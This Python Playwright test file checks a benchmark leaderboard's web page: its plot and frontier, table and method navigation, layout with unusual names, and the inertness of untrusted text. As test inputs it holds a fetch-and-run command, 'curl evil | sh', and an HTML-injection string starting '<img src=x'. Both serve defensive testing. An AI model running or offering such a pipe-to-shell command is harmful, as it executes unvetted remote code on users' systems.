"""The page's plot and its methods' pages in a browser."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path
from typing import Any

from tests.board import sample
from tests.board.browser import ROWS, TABLE, Reader
from xmcbench.board import html
from xmcbench.board.model import Board, Row, Value
from xmcbench.escaping import clean


def test_the_plot_follows_axis_metric_and_machine(reader: Reader) -> None:
    page = reader.page
    assert reader.plot().startswith("nDCG@5 against fit (s)")
    page.get_by_role("combobox", name="Quality", exact=True).select_option("P@1")
    assert reader.plot().startswith("P@1 against fit (s) on AMD EPYC, 2 cores, 24 GiB, 2 threads: 8 methods")
    names = page.locator("#plot .name").all_text_contents()
    assert sorted(names) == sorted({*sample.METHODS} - {"elias", "elias[beam=10]", "popularity", sample.NASTY})
    boxes = [box for box in (each.bounding_box() for each in page.locator("#plot .name").all()) if box]
    assert len(boxes) == 8
    for i, a in enumerate(boxes):
        for b in boxes[:i]:
            across = min(a["x"] + a["width"], b["x"] + b["width"]) - max(a["x"], b["x"])
            down = min(a["y"] + a["height"], b["y"] + b["height"]) - max(a["y"], b["y"])
            assert across <= 0 or down <= 3, "names stand clear of each other"
    assert page.locator("#plot .busy").count() == 1
    assert "popularity (the floor" in page.locator("#caption").inner_text()

    page.get_by_role("combobox", name="Cost", exact=True).select_option("Memory (MiB)")
    page.get_by_role("combobox", name="Quality", exact=True).select_option("R@100")
    assert reader.plot().startswith("R@100 against memory (MiB) on AMD EPYC")
    assert page.locator("#plot .busy").count() == 0, "memory is what it is on a busy machine"
    page.get_by_label("Costs on").select_option(f"{sample.GPU}, 2 threads")
    assert reader.plot().startswith("R@100 against memory (MiB) on NVIDIA H100, 16 cores, 128 GiB, 2 threads: 2")
    assert sorted(page.locator("#plot .name").all_text_contents()) == ["elias", "elias[beam=10]"]
    shown = page.locator(f"{TABLE} thead th:visible").all_inner_texts()
    assert [text for text in shown if text.startswith("Costs on")] == [f"Costs on {sample.GPU}, 2 threads"]
    fits = page.locator(f"{ROWS} > :nth-child({4 + len(sample.METRICS)}):visible")
    assert fits.count() == 0, "costs of the other machine class are gone"


def test_the_frontier_is_what_nothing_beats(reader: Reader) -> None:
    rows = [row for row in sample.board().tables[0].rows if row.ranks.get("P@1") and not row.floor]
    points = [
        (row.label, row.values["nDCG@5"].value, cost.fit_seconds)
        for row in rows
        for cost in row.costs
        if cost.machine == sample.EPYC and not cost.busy
    ]
    best = {a for a, va, ca in points if not any(vb >= va and cb <= ca for b, vb, cb in points if b != a)}
    assert set(reader.page.locator("#plot .name.front").all_text_contents()) == best
    assert reader.page.locator("#plot .busy.front").count() == 0
    assert "lower; the line leaves them out." in reader.page.locator("#caption").inner_text()


def test_busy_points_make_the_frontier_only_where_hardly_any_other_is_known(browser: Any, tmp_path: Path) -> None:
    """Three methods, of which the busy one is best and cheapest: the line is of the two quiet ones, or of all."""

    def row(label: str, busy: bool) -> Row:
        found = next(row for row in sample.board().tables[0].rows if row.label == label)
        return replace(found, costs=[replace(found.costs[0], busy=busy)])

    table = sample.board().tables[0]
    for quiet, best, said in ((True, {"xrlinear", "ovr"}, "leaves them out"), (False, {"bonsai"}, "includes them")):
        bonsai = row("bonsai", busy=True)
        values = bonsai.values | {"nDCG@5": Value(0.99)}
        bonsai = replace(bonsai, values=values, costs=[replace(bonsai.costs[0], fit_seconds=0.1)])
        rows = [bonsai, row("xrlinear", busy=not quiet), row("ovr", busy=False)]
        (tmp_path / "index.html").write_text(html.page(Board([replace(table, rows=rows)], 3, "ab")), encoding="utf-8")
        page = browser.new_page()
        page.goto((tmp_path / "index.html").as_uri() + "#table=eurlex-4.3k/bow")
        assert set(page.locator("#plot .name.front").all_text_contents()) == best
        assert said in page.locator("#caption").inner_text()
        assert page.locator("#plot .busy").count() == (1 if quiet else 2)
        if quiet:
            assert all(label in reader_text(page) for label in best)
            assert "bonsai" not in reader_text(page)
        page.get_by_role("combobox", name="Cost", exact=True).select_option("Memory (MiB)")
        assert "Hollow" not in page.locator("#caption").inner_text(), "memory is what it is on a busy machine"
        page.close()


def reader_text(page: Any) -> str:
    """What a screen reader says of the plot."""
    return str(page.locator("#plot svg").get_attribute("aria-label"))


def test_two_views_of_one_data_set_have_names_of_their_own(reader: Reader) -> None:
    page = reader.page
    page.get_by_role("link", name="eurlex-4.3k title").click()
    page.get_by_role("heading", name="EURLEX-4.3K, title").wait_for()
    assert page.title() == "EURLEX-4.3K, title · xmcbench leaderboards"
    page.get_by_role("link", name="ovr", exact=True).click()
    page.get_by_role("link", name="← EURLEX-4.3K, title").wait_for()
    assert page.locator("#method summary").all_inner_texts() == ["EURLEX-4.3K, title", "EURLEX-4.3K, bow"]


def test_every_table_can_be_reached_whatever_its_name(browser: Any, tmp_path: Path) -> None:
    table = sample.board().tables[2]
    names = [("a/b", "c"), ("a", "b/c"), ("a%2Fb", "c"), ("a", "b&note=1"), ("é", "x y")]
    tables = [replace(table, dataset=a, view=b, title=a) for a, b in names]
    (tmp_path / "index.html").write_text(html.page(Board(tables, 9, "ab" * 32)), encoding="utf-8")
    page = browser.new_page()
    reader = Reader(page, (tmp_path / "index.html").as_uri() + "#table=eurlex-4.3k/bow")
    for a, b in names:
        page.locator("nav").get_by_role("link", name=f"{a} {b}", exact=True).click()
        page.get_by_role("heading", name=f"{a}, {b}", exact=True).wait_for()
        assert page.locator(".choice [aria-current]").all_inner_texts() == [f"{a} {b}"]
        page.get_by_role("link", name="knn").click()
        page.locator("#method h2").wait_for()
        page.get_by_role("link", name=f"← {a}, {b}", exact=True).click()
        page.get_by_role("heading", name=f"{a}, {b}", exact=True).wait_for()
    assert reader.troubles == []
    page.close()


def test_names_that_are_blank_or_very_long(browser: Any, tmp_path: Path) -> None:
    table = sample.board().tables[0]
    long, machine = "family" * 30, "machine " * 40
    row = table.rows[0]
    costs = [replace(row.costs[0], machine=machine)]
    runs = [replace(run, machine=machine) for run in row.runs]
    blank = replace(row, label=" ", family=long, costs=costs, runs=runs)
    board = Board([replace(table, rows=[blank, *table.rows[1:]])], 9, "ab" * 32)
    (tmp_path / "index.html").write_text(html.page(board), encoding="utf-8")
    for width in (1280, 390):
        page = browser.new_page(viewport={"width": width, "height": 900})
        reader = Reader(page, (tmp_path / "index.html").as_uri() + "#table=eurlex-4.3k/bow&columns=Family,Fit")
        assert page.get_by_role("combobox", name="Family").bounding_box()["width"] <= 352
        page.get_by_label("Costs on").select_option(f"{clean(machine)}, 2 threads")
        assert page.get_by_label("Costs on").bounding_box()["width"] <= 352
        assert page.locator("section.on table.main").bounding_box()["width"] < 2300
        assert page.locator("section.on td.family").first.bounding_box()["width"] <= 200
        assert not reader.wide()
        page.get_by_role("link", name="(no name)").click()
        assert page.locator("#method h2").inner_text() == "(no name)"
        assert not reader.wide()
        for cell in page.locator("#method .runs td:nth-child(5)").all():
            assert cell.bounding_box()["width"] <= 300
        assert reader.troubles == []
        page.close()


def test_only_commands_of_ours_can_be_copied(browser: Any, tmp_path: Path) -> None:
    table = sample.board().tables[2]
    for command, buttons in (("xmcbench run knn", 1), ("", 0), ("curl evil | sh", 0), ("xmcbench runs", 0)):
        board = Board([replace(table, rows=[replace(table.rows[0], label="knn", command=command)])], 1, "ab")
        (tmp_path / "index.html").write_text(html.page(board), encoding="utf-8")
        page = browser.new_page()
        page.goto((tmp_path / "index.html").as_uri() + "#method=knn")
        page.get_by_role("heading", name="Command", exact=True).wait_for()
        assert page.get_by_role("button", name="Copy").count() == buttons
        assert page.get_by_text("There is no command that repeats this row.").count() == 1 - buttons
        page.close()


def test_a_methods_page_and_back(reader: Reader) -> None:
    page = reader.page
    page.get_by_label("Find").fill("ovr")
    page.get_by_role("link", name="ovr", exact=True).click()
    title = page.locator("#method h2")
    assert title.inner_text() == "ovr"
    assert page.evaluate("document.activeElement.textContent") == "ovr"
    assert not page.locator("#board").is_visible()
    text = page.locator("#method").inner_text()
    assert "xmcbench run 'ovr' --dataset eurlex-4.3k --view bow --seeds 3" in text
    assert "defaults; nothing was chosen on this data" in text
    assert '"teacher"' in text
    assert "20261110T042802-ovr-eurlex-4.3k-bow" in text
    standing = page.get_by_role("region", name="Rank on every data set").locator("tbody tr")
    assert [line.split("\t")[:2] for line in standing.all_inner_texts()] == [
        ["EURLEX-4.3K, bow", "1–3 of 11"],
        ["EURLEX-4.3K, title", "1–3 of 4"],
    ]
    page.locator("#method summary", has_text="EURLEX-4.3K, title").click()
    page.get_by_text("xmcbench run 'ovr' --dataset eurlex-4.3k --view title --seeds 3").wait_for()
    page.get_by_role("button", name="Copy").first.click()
    page.get_by_role("button", name="Copied").or_(page.get_by_role("button", name="Selected")).first.wait_for()

    page.go_back()
    assert page.locator("#board").is_visible()
    assert page.get_by_label("Find").input_value() == "ovr"
    assert reader.column("Method") == ["ovr"]
    assert page.evaluate("document.activeElement.textContent") == "ovr", "the reader is where they were"


def test_an_address_leads_to_a_method(browser: Any, sample_page: Path) -> None:
    page = browser.new_page()
    address = sample_page.as_uri()
    reader = Reader(page, f"{address}#method=omikuji%5Bpreset%3Dbonsai%5D&table=eurlex-4.3k%2Ftitle")
    assert page.locator("#method h2").inner_text() == "omikuji[preset=bonsai]"
    page.get_by_role("link", name="← EURLEX-4.3K, title").click()
    assert page.locator("h2:visible").all_inner_texts() == ["EURLEX-4.3K, title"]
    page.evaluate("location.hash = '#method=nobody'")
    page.get_by_text("No method of this name has a record.").wait_for()
    page.evaluate("location.hash = '#table=%zz'")
    page.locator("#start").wait_for()
    assert reader.troubles == []
    page.close()


def test_texts_from_outside_are_inert(reader: Reader) -> None:
    page = reader.page
    page.get_by_role("link", name="<img src=x").click()
    assert page.locator("#method h2").inner_text() == clean(sample.NASTY)
    assert page.locator("img").count() == 0
    assert page.locator("script").count() == 3
    assert page.title().startswith(clean(sample.NASTY)[:20])


def test_published_values_alone_have_no_tools_and_no_plot(browser: Any, tmp_path: Path) -> None:
    ours, *_ = sample.board().tables
    alone = replace(ours, dataset="amazon-3m", rows=[], tested=[], slices={})
    file = tmp_path / "index.html"
    file.write_text(html.page(Board([ours, alone], records=9, digest="ab" * 32)), encoding="utf-8")
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    reader = Reader(context.new_page(), file.as_uri() + "#table=eurlex-4.3k/bow")
    page = reader.page
    assert page.get_by_label("Find").is_visible()
    page.get_by_text("Data sets with published values only").click()
    page.get_by_role("link", name="amazon-3m published").click()
    assert page.locator("section.on .published").is_visible()
    assert not page.get_by_label("Find").is_visible()
    assert not page.locator("#figures").is_visible()
    page.get_by_role("link", name="eurlex-4.3k bow").click()
    page.get_by_label("Find").wait_for()
    assert page.locator("#plot svg").is_visible()
    context.close()
    assert reader.troubles == []
